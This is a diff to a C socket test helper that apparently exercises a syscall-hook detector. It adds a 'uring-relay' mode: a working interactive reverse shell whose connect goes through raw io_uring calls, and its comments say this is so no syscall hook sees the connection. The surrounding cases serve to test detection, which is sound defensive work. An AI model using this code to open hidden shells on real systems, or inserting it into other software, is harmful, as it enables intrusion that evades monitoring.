@@ -13,6 +13,10 @@
  *   sockhelper file-dup2 PATH NEWFD  open(PATH), then dup2(file, NEWFD)       (negative)
  *   sockhelper unix-fd0 PATH         close(0), AF_UNIX socket on fd 0, connect(PATH) (negative:
  *                                    TRC-101 ignores AF_UNIX, but the hook reads sun_path)
+ *   sockhelper uring-relay IP PORT SHELL
+ *                                    a relay shell whose connect goes through io_uring
+ *                                    (IORING_OP_CONNECT, no connect(2) at all): SHELL -i runs
+ *                                    behind two pipes and this process copies both ways
  *
  * Exit status 0 when every syscall did what was asked; 2 with one line on stderr otherwise,
  * so a case that silently did something else cannot pass as a negative.
@@ -26,8 +30,14 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <linux/io_uring.h>
+#include <poll.h>
+#include <signal.h>
+#include <sys/mman.h>
 #include <sys/socket.h>
+#include <sys/syscall.h>
 #include <sys/un.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 static int fail(const char *what) {
@@ -69,9 +79,75 @@ static void connect_on(int want, const char *ip, const char *port) {
   if (connect(s, (struct sockaddr *)&sa, sizeof sa) < 0) fail("connect");
 }
 
+/* connect(s, sa) as one IORING_OP_CONNECT on a ring of its own, raw syscalls (no liburing in
+ * the guest): the kernel runs it without connect(2), so no syscall hook sees it. */
+static void uring_connect(int s, const struct sockaddr_in *sa) {
+  struct io_uring_params p;
+  memset(&p, 0, sizeof p);
+  int ring = (int)syscall(__NR_io_uring_setup, 4, &p);
+  if (ring < 0) fail("io_uring_setup");
+  char *sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(__u32), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
+  char *cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
+  struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
+  if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) fail("mmap io_uring");
+  __u32 *sq_tail = (__u32 *)(sq + p.sq_off.tail), sq_mask = *(__u32 *)(sq + p.sq_off.ring_mask);
+  __u32 tail = *sq_tail, index = tail & sq_mask;
+  struct io_uring_sqe *sqe = &sqes[index];
+  memset(sqe, 0, sizeof *sqe);
+  sqe->opcode = IORING_OP_CONNECT;
+  sqe->fd = s;
+  sqe->addr = (unsigned long)sa;
+  sqe->off = sizeof *sa; /* the address length */
+  ((__u32 *)(sq + p.sq_off.array))[index] = index;
+  __atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
+  if (syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) fail("io_uring_enter");
+  __u32 *cq_head = (__u32 *)(cq + p.cq_off.head), cq_mask = *(__u32 *)(cq + p.cq_off.ring_mask);
+  __u32 head = __atomic_load_n(cq_head, __ATOMIC_ACQUIRE);
+  if (head == __atomic_load_n((__u32 *)(cq + p.cq_off.tail), __ATOMIC_ACQUIRE)) {
+    errno = EAGAIN;
+    fail("io_uring: no completion");
+  }
+  int res = ((struct io_uring_cqe *)(cq + p.cq_off.cqes))[head & cq_mask].res;
+  if (res < 0) {
+    errno = -res;
+    fail("IORING_OP_CONNECT");
+  }
+  __atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
+  close(ring);
+}
+
+/* A relay shell: SHELL -i behind two pipes (its stdin, its stdout and stderr), this process
+ * copying between them and the socket until either side ends, as a script's Popen relay does. */
+static int relay(int s, const char *shell) {
+  int in[2], out[2];
+  if (pipe(in) < 0 || pipe(out) < 0) fail("pipe");
+  pid_t child = fork();
+  if (child < 0) fail("fork");
+  if (child == 0) {
+    if (dup2(in[0], 0) != 0 || dup2(out[1], 1) != 1 || dup2(out[1], 2) != 2) fail("dup2");
+    for (int fd = 3; fd < 64; fd++) close(fd);
+    execl(shell, "sh", "-i", (char *)NULL);
+    fail("execl");
+  }
+  close(in[0]);
+  close(out[1]);
+  char buf[4096];
+  struct pollfd fds[2] = {{.fd = s, .events = POLLIN}, {.fd = out[0], .events = POLLIN}};
+  for (;;) {
+    if (poll(fds, 2, -1) < 0) fail("poll");
+    int from = fds[0].revents ? 0 : 1;
+    ssize_t n = read(fds[from].fd, buf, sizeof buf);
+    if (n <= 0) break;
+    if (write(from == 0 ? in[1] : s, buf, (size_t)n) != n) break;
+  }
+  kill(child, SIGKILL);
+  waitpid(child, NULL, 0);
+  return 0;
+}
+
 int main(int argc, char **argv) {
   if (argc < 2) {
-    dprintf(2, "usage: sockhelper connect-fd0|connect-fd0-exec|connect-fd3|dup2|dup3|file-dup2|unix-fd0 ...\n");
+    dprintf(2, "usage: sockhelper connect-fd0|connect-fd0-exec|connect-fd3|dup2|dup3|file-dup2|unix-fd0|uring-relay ...\n");
     return 2;
   }
   const char *mode = argv[1];
@@ -108,6 +184,12 @@ int main(int argc, char **argv) {
     /* The exact length, not sizeof su: the hook must read no more than the caller passed. */
     socklen_t len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(su.sun_path) + 1);
     if (connect(s, (struct sockaddr *)&su, len) < 0) fail("connect");
+  } else if (!strcmp(mode, "uring-relay") && argc == 5) {
+    struct sockaddr_in sa = addr(argv[2], argv[3]);
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    if (s < 0) fail("socket");
+    uring_connect(s, &sa);
+    return relay(s, argv[4]);
   } else {
     dprintf(2, "sockhelper: unknown mode or wrong argument count: %s\n", mode);
     return 2;
